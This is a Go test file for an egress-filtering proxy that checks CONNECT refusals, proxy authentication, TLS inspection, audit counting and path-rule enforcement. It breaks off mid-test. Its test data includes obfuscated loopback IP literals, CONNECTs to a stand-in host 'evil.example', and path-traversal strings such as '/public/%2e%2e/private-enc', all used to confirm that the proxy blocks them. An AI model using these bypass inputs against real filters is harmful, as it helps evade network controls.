package proxy

import (
	"bufio"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"log"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"egressd/audit"
	"egressd/policy"
)

// connectRaw sends one proxy request from the client namespace and returns
// the response (status, reason header, body).
func (tp *topo) proxyRequest(t *testing.T, raw string) (*http.Response, string) {
	t.Helper()
	c := tp.dialExplicit(t)
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(c, raw)
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: strings.Fields(raw)[0]})
	if err != nil {
		t.Fatalf("%q: %v", raw, err)
	}
	defer resp.Body.Close()
	var body []byte
	if resp.StatusCode != http.StatusOK {
		body, _ = io.ReadAll(resp.Body)
	}
	return resp, string(body)
}

// dialExplicit connects to the explicit proxy from the client namespace.
func (tp *topo) dialExplicit(t *testing.T) net.Conn {
	t.Helper()
	var c net.Conn
	if err := tp.c.Do(func() (err error) {
		c, err = net.DialTimeout("tcp", fmt.Sprintf("198.18.1.1:%d", explicitPort), 5*time.Second)
		return
	}); err != nil {
		t.Fatal(err)
	}
	return c
}

func TestExplicit(t *testing.T) {
	tp := newTopo(t, topoOpts{})
	proxyURL := fmt.Sprintf("http://198.18.1.1:%d", explicitPort)

	t.Run("connect-allowed-curl", func(t *testing.T) {
		out, err := tp.c.Run("curl", "-sS", "--max-time", "10", "-x", proxyURL, "--cacert", tp.pki.caFile, "https://www.allowed.test/conn")
		if err != nil || !strings.Contains(out, "sni=www.allowed.test host=www.allowed.test path=/conn") {
			t.Fatalf("%v: %s", err, out)
		}
		ev := tp.ev.wait(t, "connect allowed", func(ev audit.Event) bool {
			return ev.NameSource == audit.NameConnect && ev.Name == "www.allowed.test" && ev.Verdict == policy.Allow && ev.BytesIn > 0
		})
		if ev.Dest != srvV4 || ev.DestPort != 443 || ev.Rule != "allowed" {
			t.Errorf("event %+v", ev)
		}
	})

	t.Run("connect-denied-curl", func(t *testing.T) {
		out, err := tp.c.Run("curl", "-sS", "--max-time", "10", "-x", proxyURL, "--cacert", tp.pki.caFile, "https://evil.example/")
		if err == nil || !strings.Contains(out, "403") {
			t.Fatalf("%v: %s", err, out)
		}
	})

	t.Run("connect-refusals", func(t *testing.T) {
		for _, c := range []struct{ authority, reason string }{
			{"evil.example:443", policy.ReasonNoRule},
			{"www.allowed.test:22", policy.ReasonPort}, // THREATS F5: right name, wrong port
			{"2130706433:80", ReasonIPLiteral},         // THREATS F4
			{"0x7f.1:80", ReasonIPLiteral},
			{"127.1:80", ReasonIPLiteral},
			{"0177.0.0.1:80", ReasonIPLiteral},
			{"[::ffff:7f00:1]:80", ""},
			{"127.0.0.1:443", ""},
			{"198.18.2.2:443", policy.ReasonNoRule}, // an IP literal no CIDR rule allows
			{"[64:ff9b::a9fe:a9fe]:443", ""},
			{"[2002:a9fe:a9fe::1]:443", ""},
			{"loop.allowed.test:443", ReasonSpecialRange}, // resolves to 127.0.0.1
		} {
			resp, body := tp.proxyRequest(t, "CONNECT "+c.authority+" HTTP/1.1\r\nHost: "+c.authority+"\r\n\r\n")
			if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "Blocked by egressd") {
				t.Errorf("CONNECT %s: %d %q", c.authority, resp.StatusCode, body)
				continue
			}
			if got := resp.Header.Get("X-Egressd-Reason"); c.reason != "" && got != c.reason {
				t.Errorf("CONNECT %s: reason %q, want %q", c.authority, got, c.reason)
			}
		}
		resp, _ := tp.proxyRequest(t, "CONNECT www.allowed.test HTTP/1.1\r\nHost: www.allowed.test\r\n\r\n")
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("CONNECT without a port: %d", resp.StatusCode)
		}
	})

	t.Run("connect-pipelined", func(t *testing.T) {
		// The client's first bytes in the same write as the CONNECT, before
		// the 200: they must reach the origin (net/http has read them with
		// the head; goproxy's hijack alone would drop them).
		c := tp.dialExplicit(t)
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		io.WriteString(c, "CONNECT www.allowed.test:80 HTTP/1.1\r\nHost: www.allowed.test:80\r\n\r\n"+
			"GET /pipelined HTTP/1.1\r\nHost: www.allowed.test\r\nConnection: close\r\n\r\n")
		br := bufio.NewReader(c)
		resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatalf("CONNECT: %v %v", resp, err)
		}
		resp, err = http.ReadResponse(br, &http.Request{Method: http.MethodGet})
		if err != nil {
			t.Fatalf("the pipelined request got no answer: %v", err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !strings.Contains(string(body), "path=/pipelined") {
			t.Errorf("pipelined request: %d %q", resp.StatusCode, body)
		}
		c.Close() // the tunnel ends, and is recorded, when both sides are done
		tp.ev.wait(t, "pipelined connect", func(ev audit.Event) bool {
			return ev.NameSource == audit.NameConnect && ev.Name == "www.allowed.test" && ev.DestPort == 80 && ev.BytesOut > 50 && ev.BytesIn > 0
		})
	})

	t.Run("plain-http", func(t *testing.T) {
		out, err := tp.c.Run("curl", "-sS", "--max-time", "10", "-x", proxyURL, "http://www.allowed.test/plainx")
		if err != nil || !strings.Contains(out, "host=www.allowed.test path=/plainx") {
			t.Fatalf("%v: %s", err, out)
		}
		resp, body := tp.proxyRequest(t, "GET http://evil.example/x HTTP/1.1\r\nHost: evil.example\r\n\r\n")
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "evil.example/x") || !strings.Contains(body, "no-rule") {
			t.Errorf("denied plain HTTP: %d %q", resp.StatusCode, body)
		}
		resp, _ = tp.proxyRequest(t, "GET http://127.0.0.1:80/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("plain HTTP to loopback: %d", resp.StatusCode)
		}
	})
}

// TestExplicitAuth: 407 with its body, then policy as usual; the users
// given with passwords (ProxyUsers) or with their digests
// (ProxyUserDigests, egressd run --proxy-users).
func TestExplicitAuth(t *testing.T) {
	for name, cfg := range map[string]Config{
		"password": {ProxyUsers: map[string]string{"alice": "s3cret"}},
		"digest":   {ProxyUserDigests: map[string]UserSecret{"alice": SHA256Secret(sha256.Sum256([]byte("s3cret"))), "bob": SHA256Secret(sha256.Sum256([]byte("other")))}},
		"bcrypt":   {ProxyUserDigests: map[string]UserSecret{"alice": mustBcrypt(t, "s3cret"), "bob": SHA256Secret(sha256.Sum256([]byte("other")))}},
	} {
		t.Run(name, func(t *testing.T) { testExplicitAuth(t, cfg) })
	}
	eng, err := policy.Compile("auth.yaml", []byte(fmt.Sprintf(testPolicy, "enforce")))
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(Config{ProxyUsers: map[string]string{"alice": "x"}}, Deps{Policy: policy.NewStore(eng), Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	for _, users := range []map[string]UserSecret{nil, {"": {}}, {"alice": {}}} {
		if err := p.SetProxyUserDigests(users); err == nil {
			t.Errorf("SetProxyUserDigests(%v) took it: empty, no name or a user with a password too", users)
		}
	}
	bad := Config{ProxyUsers: map[string]string{"alice": "x"}, ProxyUserDigests: map[string]UserSecret{"alice": {}, "": {}}}
	if err := bad.Validate(); err == nil || !strings.Contains(err.Error(), "both a password and a digest") || !strings.Contains(err.Error(), "empty name") {
		t.Errorf("a user in both maps and an empty name: %v", err)
	}
}

func testExplicitAuth(t *testing.T, cfg Config) {
	eng, err := policy.Compile("auth.yaml", []byte(fmt.Sprintf(testPolicy, "enforce")))
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(cfg, Deps{Policy: policy.NewStore(eng), Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go p.ServeExplicit(ln)
	defer p.Close()
	ask := func(raw string) (*http.Response, string) {
		c, err := net.Dial("tcp", ln.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, raw)
		resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: "CONNECT"})
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		return resp, string(b)
	}
	resp, body := ask("CONNECT www.allowed.test:443 HTTP/1.1\r\nHost: www.allowed.test:443\r\n\r\n")
	if resp.StatusCode != http.StatusProxyAuthRequired || resp.Header.Get("Proxy-Authenticate") == "" || !strings.Contains(body, "proxy authentication required") {
		t.Errorf("no credentials: %d %v %q", resp.StatusCode, resp.Header, body)
	}
	resp, _ = ask("CONNECT www.allowed.test:443 HTTP/1.1\r\nHost: www.allowed.test:443\r\nProxy-Authorization: Basic YWxpY2U6d3Jvbmc=\r\n\r\n")
	if resp.StatusCode != http.StatusProxyAuthRequired {
		t.Errorf("wrong password: %d", resp.StatusCode)
	}
	// alice:s3cret
	resp, body = ask("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nProxy-Authorization: Basic YWxpY2U6czNjcmV0\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "evil.example") || !strings.Contains(body, "<code>auth</code>") {
		t.Errorf("authenticated, denied: %d %q", resp.StatusCode, body)
	}
	// The scheme is case-insensitive (RFC 9110 section 11.1).
	resp, body = ask("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nProxy-Authorization: basic YWxpY2U6czNjcmV0\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "evil.example") {
		t.Errorf("authenticated with \"basic\": %d %q", resp.StatusCode, body)
	}
}

// TestExplicitAuthChallengeCounts: a 407 is a refusal of one request, not
// a flow. A client that is challenged and then sends the CONNECT again
// with credentials (on the same connection where the proxy keeps it, else
// on a new one, as browsers do) made one flow, its rule's; the challenge
// is a refused request of the dropped entry. A client that never
// authenticates is still in the report. Before, each 407 was a denied,
// enforced flow: one authenticated connection counted as two flows, and
// every host a browser opened first was listed as a dropped flow.
func TestExplicitAuthChallengeCounts(t *testing.T) {
	ev := &events{}
	addr, plainPort, tlsPort, _ := loopbackExplicitSink(t, `version: 1
mode: audit
rules:
  - name: docs
    to: ["docs.paths.test"]
    ports: [%d/tcp, %d/tcp]
`, func(c *Config) { c.ProxyUsers = map[string]string{"alice": "s3cret"} }, ev)
	auth := fmt.Sprintf("docs.paths.test:%d", tlsPort)
	bare := fmt.Sprintf("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", auth, auth)
	// alice:s3cret
	withCreds := fmt.Sprintf("CONNECT %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic YWxpY2U6czNjcmV0\r\n\r\n", auth, auth)
	dial := func(t *testing.T) (net.Conn, *bufio.Reader) {
		t.Helper()
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { c.Close() })
		c.SetDeadline(time.Now().Add(10 * time.Second))
		return c, bufio.NewReader(c)
	}
	ask := func(c net.Conn, br *bufio.Reader, raw string) (int, error) {
		if _, err := io.WriteString(c, raw); err != nil {
			return 0, err
		}
		resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
		if err != nil {
			return 0, err
		}
		if resp.StatusCode != http.StatusOK {
			io.Copy(io.Discard, resp.Body)
		}
		return resp.StatusCode, nil
	}
	// report feeds the events of the given client ports to a ledger.
	report := func(ports ...int) *audit.Report {
		led := audit.NewLedger(nil, audit.LedgerOptions{})
		ev.mu.Lock()
		for _, e := range ev.evs {
			if slices.Contains(ports, int(e.ClientPort)) {
				led.Emit(e)
			}
		}
		ev.mu.Unlock()
		return led.Report(audit.ReportOptions{})
	}
	describe := func(r *audit.Report) string {
		var b strings.Builder
		fmt.Fprintf(&b, "%d flows, %d requests", r.Totals.Flows, r.Totals.Requests)
		for _, rr := range r.Rules {
			fmt.Fprintf(&b, "\n  rule %s: %d flows, %d requests", rr.Name, rr.Flows, rr.Requests)
		}
		for _, dr := range r.Dropped {
			fmt.Fprintf(&b, "\n  dropped %s:%d/%s: %d flows, %d requests (%s, enforced %v)", dr.Dest, dr.Port, dr.Proto, dr.Flows, dr.Requests, dr.Reason, dr.Enforced)
		}
		return b.String()
	}
	challenged := func(r *audit.Report, requests uint64) bool {
		for _, dr := range r.Dropped {
			if dr.Dest == "docs.paths.test" && dr.Port == uint16(tlsPort) && dr.Reason == ReasonAuth && dr.Enforced && dr.Flows == 0 && dr.Requests == requests {
				return true
			}
		}
		return false
	}
	// check waits until the events of ports make one flow of rule docs
	// and one challenged request.
	check := func(t *testing.T, ports ...int) {
		t.Helper()
		deadline := time.Now().Add(5 * time.Second)
		for {
			r := report(ports...)
			var docs audit.RuleReport
			for _, rr := range r.Rules {
				if rr.Name == "docs" {
					docs = rr
				}
			}
			if r.Totals.Flows == 1 && docs.Flows == 1 && challenged(r, 1) {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("challenge, then authenticated CONNECT: %s\nwant 1 flow of rule docs and 1 refused request (%s) of docs.paths.test:%d", describe(r), ReasonAuth, tlsPort)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	t.Run("same-connection", func(t *testing.T) {
		c, br := dial(t)
		ports := []int{localPort(c)}
		if code, err := ask(c, br, bare); err != nil || code != http.StatusProxyAuthRequired {
			t.Fatalf("no credentials: %d %v", code, err)
		}
		code, err := ask(c, br, withCreds)
		if err != nil {
			// The proxy closed the connection after the 407: a
			// browser sends the request again on a new one.
			c, br = dial(t)
			ports = append(ports, localPort(c))
			code, err = ask(c, br, withCreds)
		}
		if err != nil || code != http.StatusOK {
			t.Fatalf("with credentials: %d %v", code, err)
		}
		c.Close()
		check(t, ports...)
	})
	t.Run("new-connection", func(t *testing.T) {
		c1, br1 := dial(t)
		if code, err := ask(c1, br1, bare); err != nil || code != http.StatusProxyAuthRequired {
			t.Fatalf("no credentials: %d %v", code, err)
		}
		c1.Close()
		c2, br2 := dial(t)
		if code, err := ask(c2, br2, withCreds); err != nil || code != http.StatusOK {
			t.Fatalf("with credentials: %d %v", code, err)
		}
		c2.Close()
		check(t, localPort(c1), localPort(c2))
	})
	// A plain HTTP request refused with 407 is recorded under the
	// port its absolute URL implies (80), not port 0.
	t.Run("plain-http-port", func(t *testing.T) {
		c, br := dial(t)
		port := localPort(c)
		io.WriteString(c, "GET http://docs.paths.test/x HTTP/1.1\r\nHost: docs.paths.test\r\n\r\n")
		resp, err := http.ReadResponse(br, nil)
		if err != nil || resp.StatusCode != http.StatusProxyAuthRequired {
			t.Fatalf("no credentials: %v %v", resp, err)
		}
		c.Close()
		deadline := time.Now().Add(5 * time.Second)
		for {
			r := report(port)
			if len(r.Dropped) == 1 && r.Dropped[0].Port == 80 && r.Dropped[0].Requests == 1 && r.Dropped[0].Reason == ReasonAuth {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("plain HTTP challenged: %s\nwant 1 refused request (%s) of docs.paths.test:80", describe(r), ReasonAuth)
			}
			time.Sleep(50 * time.Millisecond)
		}
	})
	// The credentials are for egressd: an authenticated plain HTTP
	// request reaches the origin without them.
	t.Run("plain-http-credentials-stay", func(t *testing.T) {
		c, br := dial(t)
		fmt.Fprintf(c, "GET http://docs.paths.test:%d/x HTTP/1.1\r\nHost: docs.paths.test:%d\r\nProxy-Authorization: Basic YWxpY2U6czNjcmV0\r\n\r\n", plainPort, plainPort)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK || !strings.Contains(string(b), "path=/x") {
			t.Fatalf("authenticated GET: %d %q", resp.StatusCode, b)
		}
		if got := resp.Header.Get("X-Seen-Proxy-Authorization"); got != "" {
			t.Errorf("the origin received Proxy-Authorization %q", got)
		}
	})
	t.Run("never-authenticates", func(t *testing.T) {
		var ports []int
		for range 2 {
			c, br := dial(t)
			ports = append(ports, localPort(c))
			if code, err := ask(c, br, bare); err != nil || code != http.StatusProxyAuthRequired {
				t.Fatalf("no credentials: %d %v", code, err)
			}
			c.Close()
		}
		deadline := time.Now().Add(5 * time.Second)
		for {
			r := report(ports...)
			if len(r.Rules) == 0 && challenged(r, 2) {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("two challenges, never authenticated: %s\nwant 2 refused requests (%s) of docs.paths.test:%d, no rule used", describe(r), ReasonAuth, tlsPort)
			}
			time.Sleep(50 * time.Millisecond)
		}
	})
}

// TestInspection: with inspection on, a host with host/path rules is
// decrypted and each request decided on its path, explicitly (CONNECT)
// and transparently; other hosts stay spliced.
func TestInspection(t *testing.T) {
	tp := newTopo(t, topoOpts{})
	_, caPEM, err := LoadOrCreateCA(tp.state)
	if err != nil {
		t.Fatal(err)
	}
	// Clients trust both the inspection CA and the servers' CA.
	testCA, _ := os.ReadFile(tp.pki.caFile)
	bundle := filepath.Join(t.TempDir(), "bundle.pem")
	os.WriteFile(bundle, append(append([]byte{}, caPEM...), testCA...), 0o644)
	proxyURL := fmt.Sprintf("http://198.18.1.1:%d", explicitPort)

	curl := func(args ...string) (string, error) {
		return tp.c.Run(append([]string{"curl", "-sS", "--max-time", "10", "-w", "\ncode=%{http_code}"}, args...)...)
	}
	for _, mode := range []struct {
		name string
		args []string
	}{
		{"explicit", []string{"-x", proxyURL}},
		{"transparent", []string{"--resolve", "docs.paths.test:443:198.18.2.2", "--resolve", "docs.paths.test:80:198.18.2.2"}},
	} {
		t.Run(mode.name, func(t *testing.T) {
			a := append([]string{"--cacert", bundle}, mode.args...)
			out, err := curl(append(a, "https://docs.paths.test/public/a")...)
			if err != nil || !strings.Contains(out, "sni=docs.paths.test host=docs.paths.test path=/public/a") || !strings.Contains(out, "code=200") {
				t.Errorf("allowed path: %v: %s", err, out)
			}
			out, err = curl(append(a, "https://docs.paths.test/private/b")...)
			if err != nil || !strings.Contains(out, "code=403") || !strings.Contains(out, "docs.paths.test/private/b") || !strings.Contains(out, policy.ReasonPath) {
				t.Errorf("denied path: %v: %s", err, out)
			}
			// The certificate the client saw for docs.paths.test is ours.
			out, _ = curl(append([]string{"--cacert", tp.pki.caFile}, append(mode.args, "https://docs.paths.test/public/a")...)...)
			if !strings.Contains(out, "code=000") {
				t.Errorf("inspected host was not decrypted: %s", out)
			}
			// A host without path rules is spliced: the servers' own certificate.
			out, err = curl(append([]string{"--cacert", tp.pki.caFile, "--resolve", "www.allowed.test:443:198.18.2.2"}, append(mode.args, "https://www.allowed.test/s")...)...)
			if err != nil || !strings.Contains(out, "code=200") {
				t.Errorf("spliced host: %v: %s", err, out)
			}
			// Plain HTTP to the inspected host: decided per request too.
			out, _ = curl(append(a, "http://docs.paths.test/public/h")...)
			if !strings.Contains(out, "code=200") || !strings.Contains(out, "path=/public/h") {
				t.Errorf("plain allowed path: %s", out)
			}
			out, _ = curl(append(a, "http://docs.paths.test/private/h")...)
			if !strings.Contains(out, "code=403") {
				t.Errorf("plain denied path: %s", out)
			}
		})
	}
	ev := tp.ev.wait(t, "inspected deny", func(ev audit.Event) bool {
		return ev.Path == "/private/b" && ev.Reason == policy.ReasonPath && ev.Enforced
	})
	if ev.Name != "docs.paths.test" {
		t.Errorf("event %+v", ev)
	}
}

// loopbackExplicit serves an explicit proxy (inspection on, CA in a
// temporary state directory) on 127.0.0.1 in front of two origins on
// 127.0.0.1, plain HTTP and TLS (the test PKI's certificate), both
// running echoHandler (and answering with X-Seen-Hop and X-Seen-End, the
// request's X-Hop and X-End); docs.paths.test resolves to 127.0.0.1, and policy
// (a format with %d, %d for the two ports) decides; config, if not nil,
// changes the configuration. It returns the proxy's address, the two
// origins' ports and the inspection CA's pool.
func loopbackExplicit(t testing.TB, policyFmt string, config func(*Config)) (string, int, int, *x509.CertPool) {
	t.Helper()
	return loopbackExplicitSink(t, policyFmt, config, nil)
}

// loopbackExplicitSink is loopbackExplicit with the proxy's events going
// to sink (nil: discarded).
func loopbackExplicitSink(t testing.TB, policyFmt string, config func(*Config), sink audit.Sink) (string, int, int, *x509.CertPool) {
	t.Helper()
	return loopbackExplicitOrigin(t, policyFmt, config, sink, nil)
}

// loopbackExplicitOrigin is loopbackExplicitSink with both origins
// running origin instead (nil: the default handler).
func loopbackExplicitOrigin(t testing.TB, policyFmt string, config func(*Config), sink audit.Sink, origin http.Handler) (string, int, int, *x509.CertPool) {
	t.Helper()
	addr, plainPort, tlsPort, caPool, _ := loopbackExplicitProxy(t, policyFmt, config, sink, origin)
	return addr, plainPort, tlsPort, caPool
}

// loopbackExplicitProxy is loopbackExplicitOrigin that also returns the
// proxy.
func loopbackExplicitProxy(t testing.TB, policyFmt string, config func(*Config), sink audit.Sink, origin http.Handler) (string, int, int, *x509.CertPool, *Proxy) {
	t.Helper()
	return loopbackExplicitDeps(t, policyFmt, config, sink, origin, nil)
}

// loopbackExplicitDeps is loopbackExplicitProxy with deps, when not nil,
// changing the proxy's Deps.
func loopbackExplicitDeps(t testing.TB, policyFmt string, config func(*Config), sink audit.Sink, origin http.Handler, deps func(*Deps)) (string, int, int, *x509.CertPool, *Proxy) {
	t.Helper()
	pk := newPKI(t)
	plainLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tlsLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var h http.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Seen-Hop", r.Header.Get("X-Hop"))
		w.Header().Set("X-Seen-End", r.Header.Get("X-End"))
		w.Header().Set("X-Seen-Proxy-Authorization", r.Header.Get("Proxy-Authorization"))
		echoHandler(w, r)
	})
	if origin != nil {
		h = origin
	}
	// Clients that close before a handshake (the tests' and benchmarks'
	// CONNECTs that end at the 200) would each log a line.
	quiet := log.New(io.Discard, "", 0)
	plain := &http.Server{Handler: h, ErrorLog: quiet}
	tlsSrv := &http.Server{Handler: h, TLSConfig: &tls.Config{Certificates: []tls.Certificate{pk.srvCert}}, ErrorLog: quiet}
	go plain.Serve(plainLn)
	go tlsSrv.ServeTLS(tlsLn, "", "")
	t.Cleanup(func() { plain.Close(); tlsSrv.Close() })
	plainPort, tlsPort := plainLn.Addr().(*net.TCPAddr).Port, tlsLn.Addr().(*net.TCPAddr).Port

	eng, err := policy.Compile("loop.yaml", []byte(fmt.Sprintf(policyFmt, plainPort, tlsPort)))
	if err != nil {
		t.Fatal(err)
	}
	state := t.TempDir()
	_, caPEM, err := LoadOrCreateCA(state)
	if err != nil {
		t.Fatal(err)
	}
	caPool := x509.NewCertPool()
	caPool.AppendCertsFromPEM(caPEM)
	cfg := Config{
		Inspect: true, StateDir: state, UpstreamRoots: pk.pool,
		AllowSpecial: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}, OwnAddrs: []netip.Addr{},
	}
	if config != nil {
		config(&cfg)
	}
	d := Deps{
		Policy:   policy.NewStore(eng),
		Sink:     sink,
		Logger:   slog.New(slog.NewTextHandler(testWriter{t}, nil)),
		Resolver: startDNS(t, map[string][]netip.Addr{"docs.paths.test": {netip.MustParseAddr("127.0.0.1")}}),
	}
	if deps != nil {
		deps(&d)
	}
	p, err := New(cfg, d)
	if err != nil {
		t.Fatal(err)
	}
	return serveExplicitLoopback(t, p), plainPort, tlsPort, caPool, p
}

// serveExplicitLoopback serves p's explicit proxy on a loopback port
// until the test ends (then closes p and waits for the server), and
// returns its address.
func serveExplicitLoopback(t testing.TB, p *Proxy) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { p.ServeExplicit(ln); close(done) }()
	t.Cleanup(func() { p.Close(); <-done })
	return ln.Addr().String()
}

// connectDocs dials the explicit proxy at addr (loopbackExplicit's) and
// sends CONNECT docs.paths.test:port; it returns the connection (with a
// 20 s deadline, closed when the test ends) and the CONNECT's status,
// failing the test when there is no response.
func connectDocs(t *testing.T, addr string, port int) (net.Conn, int) {
	t.Helper()
	return connectDocsWith(t, addr, port, "")
}

// connectDocsWith is connectDocs with header lines (each ending in CRLF)
// added to the CONNECT head.
func connectDocsWith(t *testing.T, addr string, port int, header string) (net.Conn, int) {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	auth := fmt.Sprintf("docs.paths.test:%d", port)
	fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n", auth, auth, header)
	resp, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.Fatalf("CONNECT %s: %v", auth, err)
	}
	return conn, resp.StatusCode
}

// inspectDocs is connectDocs for a CONNECT that is inspected: it fails
// the test unless the proxy answered 200, and returns the connection and
// a TLS client on it for docs.paths.test that trusts caPool, the
// inspection CA (no handshake yet).
func inspectDocs(t *testing.T, addr string, port int, caPool *x509.CertPool) (net.Conn, *tls.Conn) {
	t.Helper()
	conn, code := connectDocs(t, addr, port)
	if code != http.StatusOK {
		t.Fatalf("CONNECT docs.paths.test:%d: %d, want 200", port, code)
	}
	return conn, tls.Client(conn, &tls.Config{ServerName: "docs.paths.test", RootCAs: caPool})
}

// docsPublicPolicy: docs.paths.test reachable under /public/ only, on
// loopbackExplicit's plain and TLS origin ports.
const docsPublicPolicy = `version: 1
mode: enforce
rules:
  - name: docs
    to: ["docs.paths.test/public/*"]
    ports: [%d/tcp, %d/tcp]
`

// checkRefused fails the test unless resp (read with err) has status code
// and, a 403, reason as its X-Egressd-Reason; it reads and closes the
// body.
func checkRefused(t *testing.T, what string, resp *http.Response, err error, code int, reason string) {
	t.Helper()
	if err != nil {
		t.Errorf("%s: %v", what, err)
		return
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != code || code == 403 && resp.Header.Get("X-Egressd-Reason") != reason {
		t.Errorf("%s: %d %s %q, want %d %s", what, resp.StatusCode, resp.Header.Get("X-Egressd-Reason"), body, code, reason)
	}
}

// getDocsPlain sends GET http://docs.paths.test:port+suffix to the
// explicit proxy at addr on a new connection (closed when the test ends)
// and reads the response.
func getDocsPlain(t *testing.T, addr string, port int, suffix string) (*http.Response, error) {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(conn, "GET http://docs.paths.test:%d%s HTTP/1.1\r\nHost: docs.paths.test:%d\r\n\r\n", port, suffix, port)
	return http.ReadResponse(bufio.NewReader(conn), nil)
}

// TestExplicitPathForm: a path an origin may read as another one
// ("/public/../private", encoded dots or slashes) does not pass a
// host/path glob on the explicit proxy, neither in a plain-HTTP request
// nor in a request of an inspected CONNECT: as on the transparent path, it
// is refused (path-form) where only a host/path rule would allow it.
// Before, "/public/../private-x" matched "docs.paths.test/public/*" there
// and was forwarded, and the origin served /private-x.
func TestExplicitPathForm(t *testing.T) {
	addr, plainPort, tlsPort, caPool := loopbackExplicit(t, docsPublicPolicy, nil)
	paths := []struct {
		path string
		code int
	}{
		{"/public/ok", 200},
		{"/public/../private-dots", 403},
		{"/public/%2e%2e/private-enc", 403},
		{"/public/x%2f..%2fprivate-slash", 403},
		{"/public/..;/private-semi", 403},
	}
	check := func(t *testing.T, what string, resp *http.Response, err error, code int) {
		t.Helper()
		checkRefused(t, what, resp, err, code, ReasonPathForm)
	}
	t.Run("plain", func(t *testing.T) {
		for _, c := range paths {
			resp, err := getDocsPlain(t, addr, plainPort, c.path)
			check(t, c.path, resp, err, c.code)
		}
	})
	t.Run("inspected", func(t *testing.T) {
		auth := fmt.Sprintf("docs.paths.test:%d", tlsPort)
		for _, c := range paths {
			conn, tc := inspectDocs(t, addr, tlsPort, caPool)
			fmt.Fprintf(tc, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", c.path, auth)
			resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
			check(t, c.path, resp, err, c.code)
			conn.Close()
		}
	})
}

// TestExplicitInspectDeadline: an inspected CONNECT must complete its TLS
// handshake and first request head within HelloTimeout, as the
// transparent hello must; goproxy reads them without a deadline, so a
// client that sent CONNECT (or a ClientHello) and then nothing held the
// connection and its goroutine for good. After a request the connection
// is not cut by that deadline.
func TestExplicitInspectDeadline(t *testing.T) {
	// Long enough for a handshake and a request under -race on a busy
	// box once the host's leaf is made (the warm-up below makes it).
	const timeout = 1500 * time.Millisecond
	addr, _, tlsPort, caPool := loopbackExplicit(t, `version: 1
mode: enforce
rules:
  - name: docs
    to: ["docs.paths.test/public/*"]
    ports: [%d/tcp, %d/tcp]
`, func(c *Config) { c.HelloTimeout = timeout })
	auth := fmt.Sprintf("docs.paths.test:%d", tlsPort)
	{
		// Warm-up: the first inspected handshake makes the leaf for the
		// host, which can take longer than the timeout under -race.
		_, tc := inspectDocs(t, addr, tlsPort, caPool)
		if err := tc.Handshake(); err != nil {
			t.Fatalf("warm-up handshake: %v", err)
		}
		tc.Close()
	}
	// closed reports whether the proxy closed c within 5 s.
	closed := func(c net.Conn, r io.Reader) bool {
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		_, err := io.Copy(io.Discard, r)
		return err == nil || !errors.Is(err, os.ErrDeadlineExceeded)
	}
	t.Run("silent-after-connect", func(t *testing.T) {
